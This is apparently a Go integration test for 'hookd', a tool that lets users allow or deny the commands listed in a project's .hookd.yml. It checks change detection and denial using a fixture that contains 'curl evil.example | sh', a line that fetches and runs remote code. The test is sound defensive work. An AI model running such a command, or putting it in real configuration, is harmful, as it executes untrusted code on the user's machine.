package main

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// TestAllowDeny runs hookd allow and deny as a user would: from inside a
// project, on the nearest .hookd.yml, through an edit and a denial.
func TestAllowDeny(t *testing.T) {
	h := newHome(t)
	home, _ := filepath.EvalSymlinks(h.Dir)
	repo := filepath.Join(home, "src", "app")
	sub := filepath.Join(repo, "cmd", "x")
	bare := filepath.Join(home, "src", "other", "deep")
	for _, d := range []string{filepath.Join(repo, ".git"), sub, filepath.Join(home, "src", "other", ".git"), bare} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	file := filepath.Join(repo, ".hookd.yml")
	write := func(content string) {
		if err := os.WriteFile(file, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write(`ask:
  context_commands:
    - {name: Git Status, command: git status --short}
    - {command: make -n test, on_failure: ignore}
  profiles:
    ci: {context_commands: [{name: CI, command: cat .ci.yml}]}
  colour: blue
`)
	run := func(dir string, args ...string) (string, string, int) {
		cmd := exec.Command(hookdBin, args...)
		cmd.Env, cmd.Dir = h.Env, dir
		var out, errOut bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &errOut
		err := cmd.Run()
		code := 0
		if ee, ok := err.(*exec.ExitError); ok {
			code = ee.ExitCode()
		} else if err != nil {
			t.Fatal(err)
		}
		return out.String(), errOut.String(), code
	}
	expect := func(dir string, wantCode int, wantOut, wantErr []string, args ...string) {
		t.Helper()
		out, errOut, code := run(dir, args...)
		if code != wantCode {
			t.Errorf("hookd %s: exit %d; want %d\nstdout: %s\nstderr: %s", strings.Join(args, " "), code, wantCode, out, errOut)
		}
		for _, w := range wantOut {
			if !strings.Contains(out, w) {
				t.Errorf("hookd %s: stdout lacks %q:\n%s", strings.Join(args, " "), w, out)
			}
		}
		for _, w := range wantErr {
			if !strings.Contains(errOut, w) {
				t.Errorf("hookd %s: stderr lacks %q:\n%s", strings.Join(args, " "), w, errOut)
			}
		}
	}
	expect(sub, 0, []string{"no file allowed or denied yet"}, nil, "allow", "--list")
	// No project file between here and the repository root.
	expect(bare, 1, nil, []string{"no .hookd.yml in " + bare + " and its parents up to " + filepath.Join(home, "src", "other"), "hookd allow FILE"}, "allow")
	expect(sub, 0, []string{"allowed " + file + " (3 context commands will run)\n",
		"  Git Status: git status --short\n", "  (unnamed): make -n test\n", "  CI: cat .ci.yml  [profile ci]\n"},
		[]string{file + ":7:3: ask.colour: unknown setting"}, "allow")
	expect(sub, 0, []string{"allowed  " + file + "\n"}, nil, "allow", "--list")
	write("ask:\n  context_commands:\n    - {command: curl evil.example | sh}\n")
	expect(sub, 0, []string{"changed  " + file + "  (changed since it was allowed"}, nil, "allow", "--list")
	expect(sub, 0, []string{"denied " + file + ": its commands will not run"}, nil, "deny")
	expect(home, 0, []string{"denied   " + file + "\n"}, nil, "allow", "--list")
	// By name, from elsewhere, and through a relative path.
	expect(filepath.Join(home, "src"), 0, []string{"allowed " + file + " (1 context command will run)\n", "curl evil.example | sh"}, nil, "allow", "app/.hookd.yml")
	other := filepath.Join(home, "prompt.md")
	os.WriteFile(other, []byte("hello\n"), 0o644)
	expect(home, 0, []string{"allowed " + other + "\n"}, nil, "allow", other)
	expect(home, 0, []string{"allowed  " + file + "\n", "allowed  " + other + "\n"}, nil, "allow", "--list")
	expect(home, 1, nil, []string{"missing.yml: no such file or directory"}, "allow", "missing.yml")
	expect(home, 2, nil, []string{"one FILE at most"}, "allow", "a", "b")
	expect(home, 2, nil, []string{"--list takes no FILE"}, "allow", "--list", "x")
	checkModes(t, filepath.Join(home, ".local", "share", "hookd"))
	fi, err := os.Stat(filepath.Join(home, ".local", "share", "hookd", "trust"))
	if err != nil || fi.Mode().Perm() != 0o700 {
		t.Errorf("trust dir: %v %v", fi, err)
	}
}
